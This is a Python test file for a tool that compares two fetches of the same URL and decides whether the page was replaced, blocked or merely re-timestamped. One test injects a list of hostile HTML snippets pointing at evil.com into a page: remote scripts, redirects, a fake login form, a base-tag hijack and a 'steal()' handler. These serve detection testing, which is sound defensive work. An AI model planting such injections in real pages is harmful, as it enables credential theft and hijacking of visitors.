"""Two answers to one URL: the same page with another clock is the same, a page that was replaced is not."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ronda.grid.comparing import Outcome, Rung, Seen, compare
from ronda.grid.page_reach import reach_of
from ronda.grid.text_similarity import similarity, visible_text

WORDS = ("harbour", "council", "pier", "boats", "nets", "prices", "weather", "ferries", "talk", "old", "and")
ARTICLE = " ".join(
    f"{WORDS[n * 7 % len(WORDS)]} {WORDS[n * 3 % len(WORDS)]} item{chr(97 + n % 26)}" for n in range(60)
)


def page(body: str, mime: str = "text/html", status: int = 200, location: str = "http://a.example/") -> Seen:
    payload = body.encode()
    return Seen(status, location, mime, f"sha256:{hash(payload)}", lambda: payload)


def verdict(a: Seen, b: Seen) -> tuple[Outcome, Rung]:
    assert compare(a, b) == compare(b, a)
    return compare(a, b).outcome, compare(a, b).rung


def article(clock: str = "12:00", advert: str = "buy fresh fish today", text: str = ARTICLE) -> Seen:
    return page(
        f"<html><head><style>p {{}}</style><script>var token='{clock}';</script></head>"
        f"<body><p>{text}</p><p>It is {clock}, visitor no {len(clock)}</p><aside>{advert}</aside></body></html>"
    )


def test_same_bytes() -> None:
    assert verdict(article(), article()) == (Outcome.MATCH, Rung.DIGEST)


def test_clock_counter_and_advert_do_not_make_another_page() -> None:
    assert verdict(article("12:00"), article("23:59:59.123")) == (Outcome.MATCH, Rung.TEXT)
    assert verdict(article(), article(advert="rent a boat for the summer")) == (Outcome.MATCH, Rung.TEXT)


def test_replaced_page_differs() -> None:
    blocked = page("<html><body>This page is not available in your region.</body></html>")
    assert verdict(article(), blocked) == (Outcome.DIFFER, Rung.TEXT)
    half = article(
        text=" ".join(ARTICLE.split()[:90]) + " and then something else was said here instead " * 10
    )
    assert verdict(article(), half) == (Outcome.DIFFER, Rung.TEXT)
    assert verdict(article(), page("<html><script>all()</script></html>")) == (Outcome.DIFFER, Rung.TEXT)


@pytest.mark.parametrize(
    ("a", "b", "expected"),
    [
        (page("x"), page("x", status=404), (Outcome.DIFFER, Rung.STATUS)),
        (page("x", status=404), page("x", status=451), (Outcome.DIFFER, Rung.STATUS)),
        (page("x"), page("x", status=503), (Outcome.INCONCLUSIVE, Rung.STATUS)),
        (page("x"), page("x", status=429), (Outcome.INCONCLUSIVE, Rung.STATUS)),
        (page("x"), Seen(0), (Outcome.INCONCLUSIVE, Rung.ANSWER)),
        (page("x"), page("x", location="http://block.example/"), (Outcome.DIFFER, Rung.LOCATION)),
        (page("x", status=302), page("y", status=301), (Outcome.MATCH, Rung.LOCATION)),
        (page("x"), page("x", location="https://a.example/?s=1"), (Outcome.MATCH, Rung.DIGEST)),
        (page("x"), page("y", mime="application/pdf"), (Outcome.DIFFER, Rung.TYPE)),
        (page("x", "image/png"), page("y", "image/png"), (Outcome.DIFFER, Rung.DIGEST)),
        (page("x"), page("x", "application/xhtml+xml"), (Outcome.MATCH, Rung.DIGEST)),
    ],
)
def test_rungs(a: Seen, b: Seen, expected: tuple[Outcome, Rung]) -> None:
    assert verdict(a, b) == expected


def test_cut_off_body_says_nothing() -> None:
    cut = Seen(200, "http://a.example/", "text/html", "sha256:0", lambda: b"x", is_truncated=True)
    assert verdict(page("x"), cut) == (Outcome.INCONCLUSIVE, Rung.DIGEST)


def strictly(a: Seen, b: Seen) -> tuple[Outcome, Rung]:
    assert compare(a, b, is_strict=True) == compare(b, a, is_strict=True)
    verdict = compare(a, b, is_strict=True)
    return verdict.outcome, verdict.rung


def cut(seen: Seen, length: int) -> Seen:
    body = seen.load()[:length]
    return replace(seen, load=lambda: body, payload_digest=f"sha256:{hash(body)}", is_truncated=True)


def test_who_alone_breaks_off_has_another_page() -> None:
    whole, other = article(), article(text="something else " * 300)
    assert strictly(whole, cut(whole, 300)) == (Outcome.DIFFER, Rung.LENGTH)
    assert strictly(whole, cut(whole, 0)) == (Outcome.DIFFER, Rung.LENGTH)
    assert strictly(cut(whole, 400), cut(whole, 300)) == (Outcome.MATCH, Rung.LENGTH)
    assert strictly(cut(whole, 400), cut(other, 400))[0] is Outcome.DIFFER
    assert strictly(whole, replace(whole, payload_digest="sha256:1", is_truncated=True))[0] is Outcome.MATCH


@pytest.mark.parametrize(
    "injected",
    [
        "<script src=//evil.com/x.js></script>",
        "<SCRIPT>location='https:\\/\\/evil.com'</SCRIPT>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<iframe alt='>' src='&#47;/evil.com'></iframe>",
        "<link rel=stylesheet href=https://evil.com/a.css>",
        "<form action=https://evil.com/login></form>",
        "<object data=https://evil.com/></object>",
        "<meta http-equiv=refresh content='0;url=https://evil.com/'>",
        "<b onmouseover=steal()></b>",
        "<base href=//evil.com>",
    ],
)
def test_page_that_reads_the_same_and_does_something_else(injected: str) -> None:
    clean, evil = (
        article("12:00"),
        page(article("12:01").load().decode().replace("<aside>", f"{injected}<aside>")),
    )
    assert strictly(clean, evil) == (Outcome.DIFFER, Rung.REACH)
    assert verdict(clean, evil) == (Outcome.MATCH, Rung.TEXT), (
        "between countries only what people read counts"
    )
    assert strictly(article("12:00"), article("23:59:59.123")) == (Outcome.MATCH, Rung.TEXT)


def test_a_sites_own_hosts_are_its_own() -> None:
    html = "<script src=//cdn{}.shop.co.uk/a.js></script><p>{}</p>"
    seen = [page(html.format(n, ARTICLE), location="http://www.shop.co.uk/") for n in (1, 2)]
    assert strictly(*seen) == (Outcome.MATCH, Rung.TEXT)


def test_text_that_counts() -> None:
    markup = "a<!-- no --><SCRIPT>no</SCRIPT ><b>b</b> 1 < 2 <style>no</style>c<script>no"
    assert visible_text(markup).split() == ["a", "b", "1", "2", "c"]


def test_hostile_markup_is_read_in_one_pass() -> None:
    """The quadratic way would take hours."""
    for piece in (b"<script", b"<", b"<!--", b"</", b"<a ", b"&amp", b"<svg><svg/", b"word ", "İ".encode()):
        assert similarity(piece * 200_000, piece * 199_999 + b"x", is_markup=True) >= 0
        reach_of(piece * 200_000, "a.example")


@given(st.binary(max_size=300), st.binary(max_size=300), st.booleans())
def test_any_bytes(a: bytes, b: bytes, is_markup: bool) -> None:
    found = similarity(a, b, is_markup=is_markup)
    assert 0 <= found <= 1
    assert found == similarity(b, a, is_markup=is_markup)
    assert similarity(a, a, is_markup=is_markup) == 1
